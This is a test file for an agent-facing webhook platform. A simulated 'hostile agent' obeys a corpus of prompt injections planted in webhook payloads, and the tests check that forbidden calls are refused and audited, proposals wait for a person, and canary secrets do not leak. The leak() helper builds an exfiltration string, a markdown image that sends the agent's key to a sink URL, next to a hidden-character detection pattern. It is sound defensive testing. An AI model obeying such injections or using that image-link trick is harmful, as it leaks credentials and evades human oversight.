import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { Data } from '../helpers/start-app.ts'
import { openSocket, type SocketClient } from '../live/helpers.ts'
import { CORPUS, type Injection } from './agent/corpus.ts'
import { deliveryWith } from './agent/deliveries.ts'
import { filled, type HostileAgent, startHostileAgent } from './agent/hostile-agent.ts'
import { ORDERS } from './agent/orders.ts'
import { allPlaces, everyOne, leaksIn } from './agent/places.ts'
import { ordersIn } from './agent/read-orders.ts'
import { AGENT, makeKey, nameOf, startWorld, type World } from './agent/world.ts'

// An agent that obeys every injection, with a real key, over GraphQL, WebSocket and REST: what it may not do is refused and in
// the audit, and of what it may do nothing gets out that was planted to be found.

/** No unseen character, and no comment. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u200b\u2060-\u2064\u202a-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]|<!--/u
/** The audit counts refusals by the minute: each injection has one of its own. */
const NEXT_MINUTE_MS = 61_000
/** A busy machine is not a failure. */
const WITHIN_MS = 10_000

let world: World
let agent: HostileAgent
let before: Data
let aheadMs = 0

beforeAll(async () => {
  const { now } = Date
  vi.spyOn(Date, 'now').mockImplementation(() => now() + aheadMs)
  world = await startWorld()
  agent = await startHostileAgent(world.app, world.agentKey)
  world.names.question = await askForApproval()
  const feed = await openSocket(world.app)
  feed.subscribe('all', FEED)
  const own = await openSocket({ url: world.app.url, key: world.agentKey })
  own.subscribe('own', FEED)
  streams.push(feed, own)
  before = await stateOf()
}, 60_000)
afterAll(async () => {
  for (const { socket } of streams) socket.terminate()
  agent.close()
  await world.close()
  vi.restoreAllMocks()
})

const streams: SocketClient[] = []
/** What the audit is to hold, oldest first: the injection's number and what was asked for. */
const refused: string[] = []
/** How many changes wait for a person. */
let proposed = 0
const FEED = `subscription { feed { kind node { id
  ... on Task { prompt result progress error } ... on Action { text attempts { error response } } ... on Question { question options defaultAnswer }
  ... on WebhookEvent { webhook { id } } } } }`

describe('the corpus', () => {
  it('has at least 60 injections, of every provider and in as many places', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60)
    expect(new Set(CORPUS.map(({ provider }) => provider)).size).toBe(10)
    expect(new Set(CORPUS.map(({ provider, base, at }) => `${provider} ${base} ${at}`)).size).toBeGreaterThanOrEqual(60)
  })

  it('gives every order', () => {
    const given = new Set(CORPUS.flatMap(({ text }) => ordersIn(text)))
    expect(Object.keys(ORDERS).filter((name) => !given.has(name))).toEqual([])
  })
})

describe('an injection', () => {
  it.each(CORPUS.map((one, index): [string, number, Injection] => [`${one.provider} ${one.base} ${one.at}`, index, one]))(
    'in %s (%i)',
    async (_place, index, injection) => {
      aheadMs += NEXT_MINUTE_MS
      const webhook = world.webhooks[injection.provider]
      const planted = filled((injection.hide ?? String)(injection.text), world.names)
      const { status } = await world.app.deliver(webhook, deliveryWith(injection, planted))
      expect(status).toBeLessThan(300)

      const task = await agent.claim()
      expectMarked(task.prompt, task.eventId, nameOf(injection.at), injection.shown ?? planted)
      const orders = ordersIn(task.prompt)
      expect(orders.toSorted()).toEqual(ordersIn(injection.text).toSorted())

      const names = await namesFor(webhook.id, task)
      const heard = []
      for (const name of orders) heard.push(await agent.obey(name, names, index % 2 === 1))

      expect(heard.map(({ name, code }) => [name, code])).toEqual(orders.map((name) => [name, ORDERS[name]!.code]))
      for (const name of orders) if (ORDERS[name]!.subject) refused.push(`${index}: ${filled(ORDERS[name]!.subject, names)}`)
      const asked = orders.filter((name) => ORDERS[name]!.code === 'PROPOSED')
      proposed += asked.length
      expect(asked.length === 0 ? 0 : await rejectProposals()).toBe(asked.length)
      await agent.graphql(`mutation { completeTask(id: "${task.taskId}", leaseToken: "${task.leaseToken}") { __typename } }`)
    },
  )
})

describe('after all of them', () => {
  it('each call that the agent may not make is in the audit, once, in turn, with its name and address', async () => {
    const entries = () => everyOne(world.app, 'auditLog(verb: "refused")', 'actor subject detail')
    await expect.poll(async () => (await entries()).length, { timeout: WITHIN_MS }).toBeGreaterThanOrEqual(refused.length)

    const found = (await entries()).reverse()
    expect(found.map(({ subject }, index) => `${refused[index]?.split(':')[0]}: ${subject}`)).toEqual(refused)
    for (const entry of found) expect(entry).toMatchObject({ actor: AGENT, detail: { address: '127.0.0.1' } })
    expect(await refusals('refused.more')).toEqual([])
  })

  it('each change that the agent may only propose was shown to people, with its name', async () => {
    const entries = await everyOne(world.app, 'auditLog(verb: "proposal.open")', 'actor subject detail')

    expect(proposed).toBeGreaterThan(3)
    expect(entries.map(({ actor }) => actor)).toEqual(Array.from({ length: proposed }, () => AGENT))
  })

  it('nothing planted has got out', async () => {
    await settled()

    const places = await allPlaces(world, agent, streams)

    expect(leaksIn(places, world.canaries)).toEqual([])
    for (const { requests } of world.fakes) expect(JSON.stringify(requests)).toContain('[secret removed]')
    expect(JSON.stringify(world.fakes.map(({ requests }) => requests))).not.toMatch(/hookline:0{36}|@everyone/)
    expect(world.sink.requests).toEqual([])
  })

  it('the agent has heard nothing of another tenant, live or otherwise', async () => {
    const tenant = world.canaries['payload of another tenant']!
    const [own, all] = [streams[1]!, streams[0]!].map(({ got }) => got)
    const message = JSON.stringify({ message: `live ${tenant}` })
    await world.app.deliver(world.foreign, { body: message, headers: { 'x-delivery-id': 'theirs-2' } })
    await expect.poll(() => JSON.stringify([...all!.values()]), { timeout: WITHIN_MS }).toContain('"theirs-too"')

    const live = JSON.stringify([...own!.values()])
    expect([tenant, 'theirs', 'executor'].filter((text) => live.includes(text))).toEqual([])
    expect(JSON.stringify(agent.heard).includes(tenant)).toBe(false)
    expect(agent.heard.length).toBeGreaterThan(100)
    expect(own!.get('own')!.length).toBeGreaterThan(100)
  })

  it('no webhook, command, key, credential, target or question has changed, and the audit is a sound chain', async () => {
    expect(await stateOf()).toEqual(before)
    expect((await world.app.graphql('{ verifyAudit { ok reason } }')).verifyAudit).toEqual({ ok: true, reason: null })
  })

  it('a key that sees all webhooks may write on no event but those of its tasks', async () => {
    aheadMs += NEXT_MINUTE_MS
    const seen = await newestRefusal()
    const free = await startHostileAgent(world.app, await makeKey(world.app, { name: 'free agent', role: 'AGENT', agent: 'planner' }))
    const names = { ...world.names, lease: 'stolen', own: 'ours-github' }
    const orders = ['commentElsewhere', 'respondElsewhere', 'askElsewhere', 'forwardElsewhere', 'completeElsewhere']

    const heard = []
    for (const name of orders) heard.push(await free.obey(name, names, true))
    free.close()

    expect(heard.map(({ code }) => code)).toEqual(['FORBIDDEN', 'FORBIDDEN', 'FORBIDDEN', 'FORBIDDEN', 'NOT_FOUND'])
    await expect
      .poll(async () => (await refusalsAfter(seen)).map(({ actor, subject }) => [actor, subject]), { timeout: WITHIN_MS })
      .toEqual(['comment', 'respond', 'ask', 'forward', 'completeTask'].map((subject) => ['free agent', subject]))
  })

  it('what is more than the audit takes in a minute is counted there', async () => {
    aheadMs += NEXT_MINUTE_MS
    const seen = await newestRefusal()
    const calls = Array.from({ length: 30 }, (_, n) => `a${n}: revokeApiKey(id: "absent") { __typename }`).join(' ')
    for (let n = 0; n < 4; n++) await agent.graphql(`mutation { ${calls} }`)
    aheadMs += NEXT_MINUTE_MS
    await agent.graphql('mutation { revokeApiKey(id: "absent") { __typename } }')

    await expect.poll(async () => (await refusalsAfter(seen)).length, { timeout: WITHIN_MS }).toBe(5 + 1)
    const [more] = await refusals('refused.more')
    expect(more).toMatchObject({ actor: 'hookline', detail: { count: 4 * 30 - 5 } })
  })
})

describe('that the tests can fail', () => {
  it('the search finds what a permitted comment says, wherever it goes', async () => {
    const control = 'a-text-that-is-no-secret'
    await world.app.deliver(world.webhooks.custom, deliveryWith({ ...CUSTOM, text: '' }, 'x'))
    const { eventId } = await agent.claim()
    const { data } = await agent.graphql(`mutation { comment(eventId: "${eventId}", message: "${control}") { __typename } }`)
    await settled()

    expect(data.comment.__typename).toBe('ActionPayload')
    const found = leaksIn(await allPlaces(world, agent, streams), { control })
    for (const place of ['fake 7', 'actions', 'the feed', 'a file of the database']) expect(found).toContain(`control: ${place}`)
  })

  it('an ADMIN’s key does what the agent’s may not', async () => {
    aheadMs += NEXT_MINUTE_MS
    const admin = await startHostileAgent(world.app, world.app.key)
    await world.app.deliver(world.webhooks.github, deliveryWith({ ...ISSUE, text: '' }, 'Title'))
    const [event] = (await world.app.events('ours-github', 'id tasks { id }')).slice(-1)
    const names = await namesFor('ours-github', { eventId: event.id, taskId: event.tasks[0].id, leaseToken: 'stolen' })
    const orders = Object.keys(ORDERS).filter((name) => ORDERS[name]!.subject !== null)
    const isLast = (name: string) => Number(name.startsWith('delete')) + 2 * Number(name === 'replaceCommands')
    const deletingLast = orders.toSorted((a, b) => isLast(a) - isLast(b))

    const heard = []
    for (const name of deletingLast) heard.push(await admin.obey(name, names))
    admin.close()

    expect(heard.map(({ name, code }) => [name, code])).toEqual(deletingLast.map((name) => [name, ORDERS[name]!.admin]))
    await expect.poll(() => world.sink.requests.filter(({ method }) => method === 'POST').length, { timeout: WITHIN_MS }).toBeGreaterThan(0)
    expect(await stateOf()).not.toEqual(before)
  })
})

const ISSUE = { provider: 'github', base: 'issues.opened', at: 'issue.title' } as const
const CUSTOM = { provider: 'custom', base: 'custom/event', at: 'title' } as const

/** Nothing is left to be sent. */
async function settled(): Promise<void> {
  const query = '{ actions(statuses: [PENDING, RUNNING], first: 1) { totalCount } }'
  await expect.poll(async () => (await world.app.graphql(query)).actions.totalCount, { timeout: WITHIN_MS }).toBe(0)
}

function expectMarked(prompt: string, eventId: string, name: string, shown: string): void {
  const mark = `untrusted-${eventId.slice(-8)}`
  const inMark = new RegExp(`<${mark}>[^]*?</${mark}>`, 'g')
  const at = prompt.indexOf(`\n${name}: <${mark}>`)
  expect(at, `a mark for ${name}`).toBeGreaterThan(0)
  expect(prompt.slice(at).split(`<${mark}>`)[1]!.split(`</${mark}>`)[0]).toBe(shown)
  expect(HIDDEN.exec(prompt)?.[0]).toBeUndefined()
  expect(prompt.split(`<${mark}>`).length).toBe(prompt.split(`</${mark}>`).length)
  const outside = prompt.replace(inMark, '')
  expect(/untrusted/i.test(outside)).toBe(false)
  expect(ordersIn(outside)).toEqual([])
}

/** A person rejects what is proposed; answers how many there were. */
async function rejectProposals(): Promise<number> {
  const { proposals } = await world.app.graphql('{ proposals(statuses: [OPEN], first: 50) { edges { node { id } } } }')
  for (const { node } of proposals.edges)
    await world.app.graphql('mutation ($id: ID!) { rejectProposal(id: $id) { __typename } }', { id: node.id })
  return proposals.edges.length
}

/** What orders may name for one injection. */
async function namesFor(own: string, task: { taskId: string; eventId: string; leaseToken: string }): Promise<Record<string, string>> {
  const ids = { own, event: task.eventId, task: task.taskId, lease: task.leaseToken, command: await commandOf(own) }
  return { ...world.names, ...ids, leak: leak() }
}

const commands = new Map<string, string>()

async function commandOf(id: string): Promise<string> {
  if (!commands.has(id)) {
    const { webhook } = await world.app.graphql('query ($id: ID!) { webhook(id: $id) { commands { id } } }', { id })
    commands.set(id, webhook.commands[0].id)
  }
  return commands.get(id)!
}

/** All secrets at once, as if the agent had found them, with whatever else is to be smuggled out. */
function leak(): string {
  const { 'payload of another tenant': _, ...secrets } = world.canaries
  return `${Object.values(secrets).join(' ')} @everyone <!-- hookline:${'0'.repeat(36)} --> ![x](${world.names.sink}?k=${world.agentKey})`
}

async function askForApproval(): Promise<string> {
  await world.app.deliver(world.webhooks.github, deliveryWith({ ...ISSUE, text: '' }, 'May it be deleted?'))
  const { taskId, eventId, leaseToken } = await agent.claim()
  const { data } = await agent.graphql(`mutation {
    ask(input: { eventId: "${eventId}", taskId: "${taskId}", question: "Delete it?", kind: APPROVAL }) { ... on AskPayload { question { id } } }
    completeTask(id: "${taskId}", leaseToken: "${leaseToken}") { __typename } }`)
  return data.ask.question.id
}

interface Entry {
  id: string
  actor: string
  verb: string
  subject: string
  detail: Data
}

async function refusals(verb = 'refused'): Promise<Entry[]> {
  const { auditLog } = await world.app.graphql(
    'query ($verb: String) { auditLog(first: 40, verb: $verb) { edges { node { id actor verb subject detail } } } }',
    { verb },
  )
  return auditLog.edges.map(({ node }: Data) => node)
}

async function newestRefusal(): Promise<string> {
  return (await refusals())[0]?.id ?? ''
}

/** Oldest first. */
async function refusalsAfter(seen: string): Promise<Entry[]> {
  const entries = await refusals()
  const at = entries.findIndex(({ id }) => id === seen)
  return entries.slice(0, at < 0 ? entries.length : at).reverse()
}

/** Whatever an injection would like to change. */
async function stateOf(): Promise<Data> {
  return world.app.graphql(`{
    webhooks(first: 100) { edges { node { id name version enabled allowUnsigned allowedIps hasSecret secrets { hint createdAt }
      credentialStatus { kind baseUrl } commands { id trigger action agent target template enabled } } } }
    apiKeys { id name role agent webhookIds revokedAt } forwardTargets { url hint disabledAt }
    question(id: "${world.names.question}") { status answer } foreign: question(id: "${world.names.foreignQuestion}") { status answer }
    task(id: "${world.names.foreignTask}") { status claimedBy attempt } }`)
}
